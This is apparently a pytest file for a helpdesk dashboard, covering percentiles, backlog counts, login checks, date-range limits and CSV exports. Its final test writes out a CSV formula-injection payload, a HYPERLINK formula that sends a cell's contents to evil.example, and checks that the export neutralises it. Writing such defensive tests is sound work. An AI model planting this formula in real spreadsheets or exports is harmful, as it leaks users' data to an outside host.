"""The dashboard's figures from tickets, events and surveys made through the same actions as in
use, its charts, and its CSV exports."""

from __future__ import annotations

import csv
import datetime as dt
import io

import pytest

from actions import tickets as act
from mailer import pipeline, spool
from models import reports
from models.base import utcnow
from models.tables import Agent, Survey, Ticket
from tests.conftest import load_eml, signed_in
from web import create_app, dashboard


@pytest.fixture
def app(settings, cast):
    for name in ("new_question.eml", "chinese_gbk_question.eml"):
        pipeline.process(settings, spool.store(load_eml(name), "smtp"))
    return create_app(settings, testing=True)


def test_percentile_is_the_nearest_rank():
    assert reports.percentile([], 0.5) is None
    assert reports.percentile([4, 1, 3, 2], 0.5) == 2 and reports.percentile(list(range(1, 11)), 0.9) == 9


def test_the_dashboard_counts_what_happened_and_exports_it(app, settings):
    agnes = Agent.get(Agent.email == "agnes@example.com")
    first = Ticket.get(Ticket.number == 1)
    act.assign(first, agnes, actor=agnes, via="web")
    act.reply(settings, first, agnes, "Your account is unlocked.", via="web")
    act.set_status(first, "resolved", settings=settings, actor=agnes, via="web")
    Survey.update(state="sent", sent_at=utcnow(), rating=5, comment="快速又专业 <b>", responded_at=utcnow()).execute()
    client = signed_in(app)
    page = client.get("/dashboard").get_data(as_text=True)
    assert page.count("<svg") >= 8 and "<script" not in page
    assert "快速又专业 &lt;b&gt;" in page  # a client's comment, escaped
    tables = reports.dashboard(utcnow() - dt.timedelta(days=1), utcnow() + dt.timedelta(days=1), utcnow())
    assert [r for r in tables["agents"].rows if r[0] == "agnes@example.com"][0][1:3] == [1, 1]
    assert tables["csat_distribution"].rows[0] == [5, 1]
    assert dict((r[0], r[-1]) for r in tables["backlog"].rows)["new"] == 1  # the Chinese question waits
    assert sum(r[1] for r in tables["first_response"].rows) == 1
    exported = client.get(f"/dashboard/agents.csv?from={utcnow():%Y-%m-%d}&to={utcnow():%Y-%m-%d}")
    assert exported.headers["Content-Type"].startswith("text/csv")
    rows = list(csv.reader(io.StringIO(exported.get_data(as_text=True).lstrip("\ufeff"))))
    assert rows[0][0] == "agent" and rows[1][:3] == ["agnes@example.com", "1", "1"]
    assert client.get("/dashboard/nothing.csv").status_code == 404
    assert client.get("/dashboard?from=yesterday").status_code == 400


def test_the_dashboard_needs_a_login(app):
    assert app.test_client().get("/dashboard").status_code == 302
    assert app.test_client().get("/dashboard/agents.csv").status_code == 302


def test_a_histogram_median_and_90th_percentile_are_within_one_percent_of_the_exact_ones():
    import random
    rng = random.Random(5)
    for values in ([0.2, 1.5, 2.0, 7.25, 30.0], [rng.lognormvariate(1, 1.5) for _ in range(5000)]):
        spread = reports.Spread()
        for v in values:
            spread.add(v)
        again = reports.Spread()
        again.merge(spread.dumps())  # as stored and read back
        for share in (0.5, 0.9):
            exact = reports.percentile(values, share)
            assert abs(again.percentile(share) - exact) <= 0.01 * exact + 1 / 60
        assert again.count == len(values) and sum(again.waits) == len(values)


def test_a_day_is_summed_again_when_its_tickets_change(app, settings):
    agnes = Agent.get(Agent.email == "agnes@example.com")
    today = (utcnow() - dt.timedelta(days=1), utcnow() + dt.timedelta(days=1))
    before = reports.dashboard(*today, utcnow())
    assert before["resolution"].figures["count"] == 0 and before["first_response"].figures["count"] == 0
    first = Ticket.get(Ticket.number == 1)
    act.assign(first, agnes, actor=agnes, via="web")
    act.reply(settings, first, agnes, "Done.", via="web")
    act.set_status(first, "resolved", settings=settings, actor=agnes, via="web")
    after = reports.dashboard(*today, utcnow())
    assert after["resolution"].figures["count"] == 1 and after["first_response"].figures["count"] == 1
    assert [r[:3] for r in after["agents"].rows if r[0] == "agnes@example.com"] == [["agnes@example.com", 1, 1]]
    assert reports.rebuild() == 1  # every day summed from scratch: alike
    assert reports.dashboard(*today, utcnow())["agents"].rows == after["agents"].rows


def test_the_backlog_counts_open_tickets_by_age(app):
    now = utcnow()
    for number, days in ((1, 0.5), (2, 5)):
        Ticket.update(created_at=now - dt.timedelta(days=days)).where(Ticket.number == number).execute()
    Ticket.update(status="pending").where(Ticket.number == 2).execute()
    backlog = {r[0]: r[1:] for r in reports.dashboard(now, now, now, only="backlog")["backlog"].rows}
    assert backlog["new"] == [1, 0, 0, 0, 0, 1] and backlog["pending"] == [0, 0, 1, 0, 0, 1]


def test_a_range_of_centuries_is_cut_to_the_latest_two_years_up_to_today(app, settings):
    """Each day not yet summed is summed on the way: a link (or an image in a client's mail)
    asking for year 1 to 9999 must not be hours of work."""
    from models.tables import ReportDay

    client = signed_in(app)
    assert client.get("/dashboard?from=0001-01-01&to=9999-12-31").status_code == 200
    days = {row.day for row in ReportDay.select(ReportDay.day)}
    assert len(days) <= dashboard.MAX_DAYS + 1 and max(days) <= utcnow().date()  # and the watermark row
    assert client.get("/dashboard?from=9999-12-31&to=2026-01-01").status_code == 200  # reversed, far ahead
    exported = client.get("/dashboard/agents.csv?from=0001-01-01&to=9999-12-31")
    assert exported.status_code == 200 and "9999" not in exported.headers["Content-Disposition"]


def test_a_clients_survey_comment_exports_as_text_not_as_a_spreadsheet_formula(app, settings):
    agnes = Agent.get(Agent.email == "agnes@example.com")
    act.set_status(Ticket.get(Ticket.number == 1), "resolved", settings=settings, actor=agnes, via="web")
    formula = '=HYPERLINK("https://evil.example/?"&A1,"Click")'
    Survey.update(state="sent", sent_at=utcnow(), rating=1, comment=formula, responded_at=utcnow()).execute()
    exported = signed_in(app).get(f"/dashboard/csat_comments.csv?from={utcnow():%Y-%m-%d}&to={utcnow():%Y-%m-%d}")
    rows = list(csv.reader(io.StringIO(exported.get_data(as_text=True).lstrip("\ufeff"))))
    assert ["'" + formula] in [row[-1:] for row in rows] and [formula] not in [row[-1:] for row in rows]
